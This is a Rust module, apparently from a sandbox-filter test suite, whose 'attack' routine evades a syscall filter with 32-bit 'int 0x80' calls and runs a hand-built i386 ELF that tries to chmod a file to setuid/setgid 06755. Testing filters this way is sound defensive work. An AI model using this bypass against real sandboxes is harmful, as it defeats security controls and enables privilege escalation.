//! Calls of 32-bit programs, which have other numbers and so pass by a filter that knows the others.

use std::arch::asm;
use std::ffi::CString;
use std::os::unix::fs::PermissionsExt;

use crate::call::{in_child, tell_word};

pub fn attack(words: &[&str]) {
    assert!(words.is_empty());
    tell_word("interrupt", in_child(interrupt));
    tell_word("program", in_child(program));
}

/// `getppid` of 32-bit programs, by the interrupt that they use, in a program of 64 bits.
fn interrupt() -> i32 {
    let result: i64;
    // SAFETY: a call that returns a number.
    unsafe {
        asm!("int 0x80", inlateout("rax") 64_i64 => result, lateout("r8") _, lateout("r9") _, lateout("r10") _, lateout("r11") _);
    }
    i32::from(result < 0)
}

/// A whole program: `chmod("/proc/self/x", 06755)`, `exit(0)`.
fn program() -> i32 {
    const BASE: u32 = 0x0804_8000;
    const HEADERS: u32 = 52 + 32;
    let code: &[u8] = &[
        0xb8, 15, 0, 0, 0, // mov eax, 15 (chmod)
        0xbb, 0, 0, 0, 0, // mov ebx, path: put in below
        0xb9, 0xed, 0x0d, 0, 0, // mov ecx, 06755
        0xcd, 0x80, // int 0x80
        0xb8, 1, 0, 0, 0, // mov eax, 1 (exit)
        0x31, 0xdb, // xor ebx, ebx
        0xcd, 0x80, // int 0x80
    ];
    let path = BASE + HEADERS + code.len() as u32;
    let mut code = code.to_vec();
    code[6..10].copy_from_slice(&path.to_le_bytes());
    code.extend_from_slice(b"set-id-32\0");
    let size = HEADERS + code.len() as u32;
    let half = |number: u16| number.to_le_bytes().to_vec();
    let word = |number: u32| number.to_le_bytes().to_vec();
    // elf(5): an executable of i386 with one segment.
    let header = [
        b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(),
        [half(2), half(3), word(1), word(BASE + HEADERS), word(52), word(0), word(0)].concat(),
        [half(52), half(32), half(1), half(0), half(0), half(0)].concat(),
        [word(1), word(0), word(BASE), word(BASE), word(size), word(size), word(5), word(0x1000)].concat(),
    ];
    std::fs::write("set-id-32", "").unwrap();
    std::fs::write("program-32", [header.concat(), code].concat()).unwrap();
    std::fs::set_permissions("program-32", std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = CString::new("program-32").unwrap();
    match nix::unistd::execv(&path, &[&path]) {
        Err(error) => error as i32,
    }
}
